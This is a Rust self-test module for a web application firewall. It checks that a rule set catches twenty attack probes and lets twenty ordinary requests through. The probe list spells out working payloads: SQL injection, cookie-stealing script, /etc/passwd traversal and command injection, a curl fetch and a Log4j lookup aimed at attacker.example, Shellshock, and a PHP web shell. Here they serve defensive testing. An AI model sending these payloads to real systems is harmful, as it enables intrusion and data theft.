//! A set is tried before it is used: harmless attacks must be seen, and ordinary requests must pass.

use std::net::{IpAddr, Ipv4Addr};
use std::time::{Duration, Instant};

use letterkeep_waf::{Cause, Connection, Limits, Transaction};

use super::{Mode, RuleSet};

/// What a probe may take: forty times the time of a request, so that a busy machine refuses no good set.
const BUDGET: Duration = Duration::from_secs(2);
/// The score of one certain finding, whatever the threshold: what reaches it has been seen.
const CERTAIN: i64 = 5;
/// Of ten attacks so many must be seen: the operator may have excepted a rule.
const SEEN_OF_TEN: usize = 9;

/// What a set did with the probes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SelfTest {
    /// How many attacks were tried.
    pub attacks: usize,
    /// Those that were not seen, by what they are.
    pub missed: Vec<&'static str>,
    /// How many ordinary requests were tried.
    pub ordinary: usize,
    /// Those that were refused, by what they are. At the first paranoia level none may be.
    pub refused: Vec<&'static str>,
}

/// A set must not be used.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum SelfTestError {
    /// Attacks are not seen.
    #[error("of {} harmless attacks it does not see {}: {}", .0.attacks, .0.missed.len(), .0.missed.join(", "))]
    LetsThrough(SelfTest),
    /// Ordinary requests are refused.
    #[error("of {} ordinary requests it refuses {}: {}", .0.ordinary, .0.refused.len(), .0.refused.join(", "))]
    RefusesOrdinary(SelfTest),
    /// It takes too long for one request.
    #[error("it takes more than two seconds for one request: {0}")]
    TooSlow(&'static str),
}

/// A request that is put to a set.
struct Probe {
    what: &'static str,
    target: &'static str,
    /// Beside those that every probe has.
    header: Option<(&'static str, &'static str)>,
    /// Media type and content.
    body: Option<(&'static str, &'static str)>,
}

const fn get(what: &'static str, target: &'static str) -> Probe {
    Probe { what, target, header: None, body: None }
}

const fn with(what: &'static str, name: &'static str, value: &'static str) -> Probe {
    Probe { what, target: "/", header: Some((name, value)), body: None }
}

const fn post(what: &'static str, kind: &'static str, content: &'static str) -> Probe {
    Probe { what, target: "/form", header: None, body: Some((kind, content)) }
}

const FORM: &str = "application/x-www-form-urlencoded";
const JSON: &str = "application/json";

const ATTACKS: [Probe; 20] = [
    get("SQL in the query", "/?id=1%27%20or%20%271%27%3D%271"),
    get("UNION SELECT in the query", "/?id=-1%20union%20select%20null,version(),user()--%20-"),
    get("SQL that waits", "/?id=1%27%20and%20sleep(5)--%20-"),
    post("SQL in a form", FORM, "id=1%27%3B+drop+table+users--+-"),
    post("SQL in JSON", JSON, "{\"id\":\"1' union select password from users-- -\"}"),
    get("script in the query", "/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
    get("script as an event", "/?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
    post("script in a form", FORM, "name=%3Csvg%2Fonload%3Dalert%281%29%3E"),
    post("script in JSON", JSON, "{\"name\":\"<script>alert(1)</script>\"}"),
    get("traversal in the query", "/?file=../../../../etc/passwd"),
    get("traversal in the path", "/static/..%2f..%2f..%2fetc%2fpasswd"),
    get("hidden file", "/.git/config"),
    get("file with secrets", "/.env"),
    get("command", "/?host=localhost%3Bcat%20/etc/passwd"),
    get("command between brackets", "/?host=$(curl%20http://attacker.example/x)"),
    post("command in a form", FORM, "host=localhost%7C%2Fbin%2Fbash+-c+id"),
    with("Shellshock", "User-Agent", "() { :; }; /bin/bash -c id"),
    get("look-up of Log4j", "/?q=$%7Bjndi:ldap://attacker.example/a%7D"),
    get("PHP", "/?q=%3C%3Fphp%20system(%24_GET%5B%27c%27%5D)%3B%3F%3E"),
    with("scanner", "User-Agent", "sqlmap/1.8"),
];

const ORDINARY: [Probe; 20] = [
    get("start page", "/"),
    get("style sheet", "/assets/main.3f9a1c.css"),
    get("picture", "/images/logo.png?v=3"),
    get("search", "/search?q=red+shoes&page=2"),
    get("search with umlauts", "/suche?q=Gr%C3%B6%C3%9Fe%2042"),
    get("page of a list", "/contacts?sort=-created&filter=active"),
    get("link with an id", "/c/0193a4b2-7c11-7d2e-9f00-1a2b3c4d5e6f"),
    get("link with a token", "/t/AbCdEf0123456789-_AbCdEf"),
    get("certificate challenge", "/.well-known/acme-challenge/Zx9Yw7"),
    with("cookies", "Cookie", "session=3q27wAAAAB; theme=dark"),
    with(
        "another browser",
        "User-Agent",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15",
    ),
    with("conditional request", "If-Modified-Since", "Tue, 03 Mar 2026 10:00:00 GMT"),
    post("log-in", FORM, "email=anna%40example.org&password=correct-horse-battery"),
    post("form", FORM, "first_name=Anna&last_name=Schmidt&city=Berlin"),
    post("form with umlauts", FORM, "name=J%C3%B6rg+M%C3%BCller&ort=K%C3%B6ln"),
    post("form with a name from Ireland", FORM, "last_name=O%27Brien"),
    post("form with a message", FORM, "message=Thank+you+for+the+newsletter.+It+was+very+good."),
    post("JSON", JSON, "{\"name\":\"Anna\",\"tags\":[\"new\",\"berlin\"],\"active\":true}"),
    post("JSON with numbers", JSON, "{\"page\":2,\"size\":50,\"ratio\":0.5}"),
    post("form of several parts", PARTS_TYPE, PARTS),
];

const PARTS_TYPE: &str = "multipart/form-data; boundary=----form7MA4YWxkTrZu0gW";
const PARTS: &str = "------form7MA4YWxkTrZu0gW\r\nContent-Disposition: form-data; name=\"list\"\r\n\r\nCustomers\r\n\
                     ------form7MA4YWxkTrZu0gW\r\nContent-Disposition: form-data; name=\"file\"; \
                     filename=\"contacts.csv\"\r\nContent-Type: text/csv\r\n\r\nEmail,Name\r\n\
                     ------form7MA4YWxkTrZu0gW--\r\n";

/// Tries a set. It may be used if it sees nine of ten attacks, and refuses nothing ordinary; above the first paranoia
/// level, where false alarms are expected, at most half of what is ordinary. A set that only detects is judged by the
/// score that it gives.
///
/// # Errors
/// Which of these it does not keep.
pub fn self_test(set: &RuleSet) -> Result<SelfTest, SelfTestError> {
    let mut result =
        SelfTest { attacks: ATTACKS.len(), missed: Vec::new(), ordinary: ORDINARY.len(), refused: Vec::new() };
    for probe in &ATTACKS {
        let seen = put(set, probe)?;
        if !seen.stopped && seen.score < CERTAIN {
            result.missed.push(probe.what);
        }
    }
    for probe in &ORDINARY {
        let seen = put(set, probe)?;
        let refused = match set.mode {
            Mode::Blocking => seen.stopped,
            Mode::DetectionOnly => seen.stopped || seen.score >= i64::from(set.inbound_threshold),
        };
        if refused {
            result.refused.push(probe.what);
        }
    }
    // Refusing everything looks like seeing everything: that is told first.
    let bearable = if set.paranoia_level == 1 { 0 } else { result.ordinary / 2 };
    if result.refused.len() > bearable {
        return Err(SelfTestError::RefusesOrdinary(result));
    }
    if (result.attacks - result.missed.len()) * 10 < result.attacks * SEEN_OF_TEN {
        return Err(SelfTestError::LetsThrough(result));
    }
    Ok(result)
}

struct Seen {
    stopped: bool,
    score: i64,
}

fn put(set: &RuleSet, probe: &Probe) -> Result<Seen, SelfTestError> {
    let localhost = IpAddr::V4(Ipv4Addr::LOCALHOST);
    let connection = Connection { client: localhost, client_port: 4711, server: localhost, server_port: 443 };
    let until = Instant::now() + BUDGET;
    let mut transaction = Transaction::new(&set.rules, &connection, "self-test", Limits::default())
        .with_budget(move || Instant::now() > until);
    let method: &[u8] = if probe.body.is_some() { b"POST" } else { b"GET" };
    transaction.request_line(method, probe.target.as_bytes(), b"HTTP/1.1");
    let usual = [
        ("Host", "www.example.org"),
        ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
        ("Accept", "text/html,application/xhtml+xml,*/*;q=0.8"),
        ("Accept-Language", "de,en;q=0.5"),
        ("Accept-Encoding", "gzip, deflate, br"),
    ];
    let kept = usual.into_iter().filter(|(name, _)| probe.header.is_none_or(|(own, _)| own != *name));
    for (name, value) in kept.chain(probe.header) {
        transaction.request_header(name.as_bytes(), value.as_bytes());
    }
    if let Some((kind, content)) = probe.body {
        transaction.request_header(b"Content-Type", kind.as_bytes());
        transaction.request_header(b"Content-Length", content.len().to_string().as_bytes());
    }
    transaction.end_request_headers();
    if let Some((_, content)) = probe.body {
        transaction.request_body(content.as_bytes());
    }
    transaction.end_request_body();
    let score = set.score(&transaction);
    let record = transaction.finish();
    if record.interruption.is_some_and(|stopped| stopped.cause == Cause::OverBudget) {
        return Err(SelfTestError::TooSlow(probe.what));
    }
    // A set without a score of its own is judged by what its rules add up to.
    let score = score.unwrap_or_else(|| record.matches.iter().map(|found| found.score).sum());
    Ok(Seen { stopped: record.interruption.is_some(), score })
}
